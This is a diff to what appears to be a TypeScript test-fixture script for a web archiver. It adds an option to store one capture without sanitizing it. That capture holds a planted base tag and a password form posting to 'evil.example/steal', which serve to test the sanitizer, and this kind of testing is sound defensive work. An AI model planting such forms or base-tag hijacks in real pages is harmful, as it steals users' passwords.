@@ -40,9 +40,14 @@ function meta(url: string, fields: Partial<CaptureMeta> & Pick<CaptureMeta, "tit
   };
 }
 
-async function writeCapture(m: CaptureMeta, body: string, files: Record<string, Buffer> = {}): Promise<string> {
+/**
+ * Writes a capture as the archiver would: its body through the sanitizer, last, so it passes verify. `unsanitized`
+ * stores the body as given, for the one capture that plays a sanitizer that let everything through.
+ */
+async function writeCapture(m: CaptureMeta, given: string, files: Record<string, Buffer> = {}, { unsanitized = false } = {}): Promise<string> {
   const dir = path.join(CACHE, m.hash_url);
   await mkdir(dir, { recursive: true });
+  const body = unsanitized ? given : sanitizeArticle(given, { baseUrl: m.final_url });
   await writeFile(path.join(dir, "index.html"), renderCaptureFile({ ...m, content_sha256: await sha256(body) }, body));
   for (const [name, content] of Object.entries(files)) await writeFile(path.join(dir, name), content);
   return m.hash_url;
@@ -155,6 +160,8 @@ await writeCapture(
 <base href="https://evil.example/">
 <form action="https://evil.example/steal" method="post"><label>Password <input name="p" type="password"></label><button id="steal">Send</button></form>
 <p><a id="relative-after-base" href="relative-link">a relative link after a planted base</a></p>`,
+  {},
+  { unsanitized: true },
 );
 
 // A text/plain capture: preformatted, with a line far wider than a phone.
